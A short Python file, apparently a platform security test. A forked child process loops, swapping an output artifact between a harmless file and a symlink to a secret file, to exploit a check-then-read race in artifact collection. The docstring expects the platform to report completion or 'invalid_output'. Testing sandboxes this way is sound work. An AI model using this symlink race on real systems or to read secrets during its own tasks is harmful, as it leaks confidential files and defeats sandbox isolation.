"""
Goes on exchanging a file for a link to a secret while the platform collects, to win between the look and the reading.

Must: completed or failed invalid_output
"""

import os

FILE, LINK = "/workspace/out/artifacts/swap", "/workspace/out/artifacts/link"


def main(host):
    if os.fork() == 0:
        while True:
            with open(LINK, "w") as file:
                file.write("harmless")
            os.replace(LINK, FILE)
            os.symlink(host["secret_file"], LINK)
            os.replace(LINK, FILE)
    return {}
